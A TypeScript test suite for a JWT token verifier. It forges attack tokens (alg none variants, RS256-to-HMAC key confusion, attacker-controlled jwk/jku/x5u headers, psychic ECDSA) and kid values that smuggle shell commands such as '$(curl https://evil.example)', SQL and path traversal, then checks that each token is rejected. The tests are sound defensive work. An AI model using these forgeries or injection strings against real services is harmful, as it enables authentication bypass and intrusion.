// The attacks of the usual JWT tools, each against the whole verification of a subject token, with its reason.
import assert from 'node:assert/strict'
import { createHmac, createSign, generateKeyPairSync, type JsonWebKey } from 'node:crypto'
import { after, test } from 'node:test'
import { ALGORITHMS } from '../../src/jwt/algorithms.ts'
import { jwksUrlSource } from '../../src/jwt/jwks-url.ts'
import { base64url, makeKey, signJwt, signRaw, startJwksServer } from '../support/jwt-fixtures.ts'
import {
  corpClaims,
  corpKey,
  corporate,
  frontend,
  makeVerifier,
  NOW,
  partner,
} from '../support/token-verifier.ts'

const evil = makeKey('RS256', 'evil')
const payload = JSON.stringify(corpClaims)
const valid = signJwt(corpKey, corpClaims)
const [validHeader, validPayload, validSignature] = valid.split('.') as [string, string, string]
const header = (members: object): string =>
  JSON.stringify({ typ: 'at+jwt', kid: 'corp-1', ...members })

const verifier = makeVerifier()
async function reasonOf(token: string): Promise<string> {
  const result = await verifier.verifySubject(token, 'access_token', frontend, NOW)
  return result.ok ? 'ok' : result.reason
}

/** A token whose MAC is made with the bytes of the public key, in every form that a server might hold. */
function confused(alg: 'HS256' | 'HS384' | 'HS512', secret: string | Buffer): string {
  const input = `${base64url(header({ alg }))}.${base64url(payload)}`
  const mac = createHmac(alg.replace('HS', 'sha'), secret).update(input).digest()
  return `${input}.${base64url(mac)}`
}
const unsigned = (alg: unknown, signature = ''): string =>
  `${base64url(header({ alg }))}.${base64url(payload)}.${signature}`
/** Signed by the attacker, under a header of the attacker's choice. */
const forged = (members: object): string =>
  signRaw(header({ alg: 'RS256', ...members }), payload, evil)

const pem = corpKey.publicKey.export({ format: 'pem', type: 'spki' }).toString()
const ownJwk: JsonWebKey = evil.jwk

const ATTACKS: Readonly<Record<string, readonly [name: string, token: string][]>> = {
  subject_token_algorithm_not_allowed: [
    ['field-6 #8 alg none', unsigned('none')],
    ['alg None', unsigned('None')],
    ['alg NONE', unsigned('NONE')],
    ['alg nOnE', unsigned('nOnE')],
    ['alg none with the old signature', unsigned('none', validSignature)],
    ['alg none behind a space', unsigned(' none')],
    ['an empty alg', unsigned('')],
    ['alg null', unsigned(null)],
    ['alg as a list', unsigned(['RS256'])],
    ['alg in lower case', unsigned('rs256', validSignature)],
    ['field-6 #8 RS256 to HS256 with the PEM', confused('HS256', pem)],
    ['RS256 to HS256 with the PEM without its last line feed', confused('HS256', pem.trimEnd())],
    ['RS256 to HS384 with the PEM', confused('HS384', pem)],
    [
      'RS256 to HS512 with the DER',
      confused('HS512', corpKey.publicKey.export({ format: 'der', type: 'spki' })),
    ],
    ['RS256 to HS256 with the JWK', confused('HS256', JSON.stringify(corpKey.jwk))],
    ['a blank password', confused('HS256', '')],
    ['a common password', confused('HS256', 'secret')],
    ['an algorithm that only the key could do', signJwt({ ...corpKey, alg: 'PS256' }, corpClaims)],
    [
      'an EC signature under the RSA kid',
      signJwt({ ...makeKey('ES256', 'x'), kid: 'corp-1' }, corpClaims),
    ],
  ],
  subject_token_header_not_accepted: [
    ['field-6 #8 an embedded jwk', forged({ jwk: ownJwk })],
    ['an embedded jwk with its kid', forged({ jwk: ownJwk, kid: 'evil' })],
    ['a jku', forged({ jku: 'https://evil.example/jwks.json' })],
    ['a jku of the issuer itself', forged({ jku: 'https://login.corp.example/keys' })],
    ['a jku on loopback', forged({ jku: 'http://127.0.0.1:8082/' })],
    ['an x5u', forged({ x5u: 'https://evil.example/cert.pem' })],
    ['an x5c', forged({ x5c: ['MIIB'] })],
    ['JWS-01 crit', forged({ crit: ['exp'] })],
    ['JWS-01 b64', forged({ b64: false, crit: ['b64'] })],
    ['a jwk even with a good signature', signJwt(corpKey, corpClaims, { jwk: ownJwk })],
    ['a kid that is an object', forged({ kid: { $ne: '' } })],
    ['a kid with a zero byte', forged({ kid: 'corp-1\0' })],
  ],
  subject_token_key_unknown: [
    ['BCP-09 a blank kid', forged({ kid: '' })],
    ['BCP-09 kid ../../dev/null', forged({ kid: '../../../../dev/null' })],
    ['BCP-09 kid /dev/null', forged({ kid: '/dev/null' })],
    ['BCP-09 kid of a file that is none', forged({ kid: '/no/such/file' })],
    ['BCP-09 kid with a command', forged({ kid: '|sleep 10' })],
    ['BCP-09 kid with curl', forged({ kid: '$(curl https://evil.example)' })],
    ['BCP-09 kid with SQL', forged({ kid: "x' UNION SELECT 'key';--" })],
    ['BCP-09 kid with LDAP', forged({ kid: '*)(uid=*' })],
    ['BCP-09 kid that is a URL', forged({ kid: 'https://evil.example/key' })],
    ['BCP-09 kid of the prototype', forged({ kid: '__proto__' })],
    ['the kid of another trusted issuer', forged({ kid: 'partner-1' })],
  ],
  subject_token_signature_invalid: [
    ['a null signature', `${validHeader}.${validPayload}.`],
    ['a signature cut short', cutShort()],
    ['a signature of zeros', `${validHeader}.${validPayload}.${base64url(Buffer.alloc(256))}`],
    ['a signature of ones', `${validHeader}.${validPayload}.${base64url(Buffer.alloc(256, 255))}`],
    [
      'the signature of another payload',
      `${validHeader}.${base64url(JSON.stringify({ ...corpClaims, sub: 'root' }))}.${validSignature}`,
    ],
    [
      'the signature under another header',
      `${base64url(header({ alg: 'RS256', x: 1 }))}.${validPayload}.${validSignature}`,
    ],
    ["the attacker's key under the issuer's kid", forged({})],
    ['no kid, so that any key might do', forged({ kid: undefined })],
    ['a digest that does not fit', confusedDigest()],
  ],
  subject_token_malformed: [
    [
      'the JSON serialisation',
      JSON.stringify({ payload: validPayload, protected: validHeader, signature: validSignature }),
    ],
    ['a JWE', `${validHeader}.${validPayload}.a.b.c`],
    ['a token behind Bearer', `Bearer ${valid}`],
    ['a line feed at the end', `${valid}\n`],
    [
      'JWS-02 alg twice',
      signRaw('{"alg":"none","alg":"RS256","kid":"corp-1","typ":"at+jwt"}', payload, corpKey),
    ],
    [
      'JWS-02 sub twice',
      signRaw(header({ alg: 'RS256' }), payload.replace('{', '{"sub":"root",'), corpKey),
    ],
    [
      'a prototype',
      signRaw(
        header({ alg: 'RS256' }),
        payload.replace('{', '{"__proto__":{"sub":"root"},'),
        corpKey,
      ),
    ],
    ['unused bits of the signature', lastCharacterChanged()],
  ],
  subject_token_too_large: [['16 KiB and more', `${valid}${'A'.repeat(16 * 1024)}`]],
}

/** RS256 in the header, made with SHA-1. */
function confusedDigest(): string {
  const input = `${validHeader}.${validPayload}`
  return `${input}.${base64url(createSign('sha1').update(input).sign(corpKey.privateKey))}`
}

/** Three bytes less, still canonical base64url. */
function cutShort(): string {
  const signature = Buffer.from(validSignature, 'base64url').subarray(0, -3)
  return `${validHeader}.${validPayload}.${base64url(signature)}`
}

/** 256 bytes leave four unused bits in the last character. */
function lastCharacterChanged(): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const last = alphabet.indexOf(valid.slice(-1))
  return valid.slice(0, -1) + alphabet[last + 1]
}

test('the token that all attacks start from is good', async () => {
  assert.equal(await reasonOf(valid), 'ok')
})

for (const [reason, attacks] of Object.entries(ATTACKS)) {
  for (const [name, token] of attacks) {
    test(`${reason}: ${name}`, async () => assert.equal(await reasonOf(token), reason))
  }
}

test('psychic ECDSA (CVE-2022-21449) against an issuer with EC keys', async () => {
  const claims = { ...corpClaims, iss: partner.iss }
  const input = signJwt(makeKey('ES256', 'partner-1'), claims, { typ: 'JWT' }).split('.')
  const token = `${input[0]}.${input[1]}.${base64url(Buffer.alloc(64))}`
  const result = await verifier.verifySubject(token, 'jwt', frontend, NOW)
  assert.equal(result.ok ? 'ok' : result.reason, 'subject_token_signature_invalid')
})

test('BCP-09 no attack makes us ask a server that a token names', async () => {
  const named = await startJwksServer()
  const issuer = await startJwksServer(JSON.stringify({ keys: [corpKey.jwk] }))
  after(() => Promise.all([named.close(), issuer.close()]))
  const keys = jwksUrlSource({
    from: { jwksUri: issuer.url },
    allowed: ALGORITHMS,
    monotonic: () => 0,
    log: { info: () => undefined, warn: () => undefined },
    allowHttp: true,
  })
  const by = makeVerifier([{ ...corporate, keys }])
  for (const members of [
    { jku: named.url },
    { x5u: named.url },
    { kid: named.url },
    { iss: named.origin },
  ]) {
    const result = await by.verifySubject(forged(members), 'access_token', frontend, NOW)
    assert.equal(result.ok, false)
  }
  const foreign = signJwt(evil, { ...corpClaims, iss: named.origin })
  const result = await by.verifySubject(foreign, 'access_token', frontend, NOW)
  assert.equal(result.ok ? 'ok' : result.reason, 'subject_token_issuer_not_trusted')
  assert.deepEqual(named.hits, [])
  assert.equal(issuer.hits.length, 1)
  keys.close()
})

test('BCP-05 a key set that holds a secret or a private key lends it to nobody', async () => {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const leaked = { ...privateKey.export({ format: 'jwk' }), kid: 'leaked', alg: 'ES256' }
  const server = await startJwksServer(
    JSON.stringify({
      keys: [leaked, { kty: 'oct', k: 'c2VjcmV0', kid: 'mac', alg: 'HS256' }, corpKey.jwk],
    }),
  )
  after(() => server.close())
  const keys = jwksUrlSource({
    from: { jwksUri: server.url },
    allowed: ALGORITHMS,
    monotonic: () => 0,
    log: { info: () => undefined, warn: () => undefined },
    allowHttp: true,
  })
  const by = makeVerifier([{ ...corporate, keys }])
  const token = signJwt({ ...makeKey('ES256', 'any'), privateKey, kid: 'leaked' }, corpClaims)
  const result = await by.verifySubject(token, 'access_token', frontend, NOW)
  assert.equal(result.ok ? 'ok' : result.reason, 'subject_token_key_unknown')
  keys.close()
})
